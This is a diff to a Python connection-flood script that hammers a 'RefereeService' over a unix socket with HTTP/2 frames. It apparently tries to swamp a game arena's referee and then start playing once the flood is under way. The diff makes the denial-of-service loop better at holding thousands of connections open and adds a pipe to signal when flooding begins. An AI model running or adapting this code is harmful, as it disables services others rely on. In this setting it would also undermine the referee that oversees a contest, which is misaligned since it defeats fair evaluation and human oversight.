@@ -16,6 +16,7 @@ HEADERS, RESET, SETTINGS = 1, 3, 4
 END_OF_HEADERS = 4
 CANCEL = (8).to_bytes(4, "big")
 PLAY = b"/referee.v1.RefereeService/Play"
+CHUNK = 1 << 16
 REQUESTS = 1_000  # on a connection, before the next is opened
 
 
@@ -58,33 +59,31 @@ FLOODS: dict[str, Callable[[], bytes]] = {
 }
 
 
-def flood(data: bytes, connections: int) -> None:
-    """Send it on one connection after the other, as fast as they are taken, keeping some open."""
+def flood(data: bytes, connections: int, begun: int) -> None:
+    """Send it on one connection after the other, as fast as they are taken, keeping some open; tell when it begins."""
     path = os.environ["ARENA_ADDRESS"].removeprefix("unix:")
     held: list[socket.socket] = []
-    number = 0
-    while True:
+    for number in range(10_000):
         out = socket.socket(socket.AF_UNIX)
-        out.settimeout(2)  # a connection that is not read is given up for the next
-        number += 1
         with suppress(OSError):
             out.connect(path)
-            out.sendall(PREFACE + frame(SETTINGS, 0, 0))
-            for start in range(0, len(data), 1 << 16):
-                out.sendall(data[start : start + (1 << 16)])
-                out.setblocking(False)
+            out.settimeout(1)  # a connection that is not read is given up for the next
+            out.sendall(PREFACE + frame(SETTINGS, 0, 0) + data[:CHUNK])
+            if number == 0:
+                os.write(begun, b"!")
+            for start in range(CHUNK, len(data), CHUNK):
+                out.sendall(data[start : start + CHUNK])
                 with suppress(BlockingIOError):
-                    out.recv(1 << 16)
-                out.settimeout(2)
+                    out.recv(CHUNK, socket.MSG_DONTWAIT)
         held.append(out)
         if len(held) > connections:
             held.pop(0).close()
-        if number == min(connections, 20):
-            begin()
-        if number > 10_000:
-            time.sleep(3_600)
+    time.sleep(3_600)
 
 
+reading, writing = os.pipe()
 if os.fork() == 0:
-    flood(FLOODS[TARGETS["kind"]](), TARGETS["connections"])
+    flood(FLOODS[TARGETS["kind"]](), TARGETS["connections"], writing)
+os.read(reading, 1)
+begin()
 play()
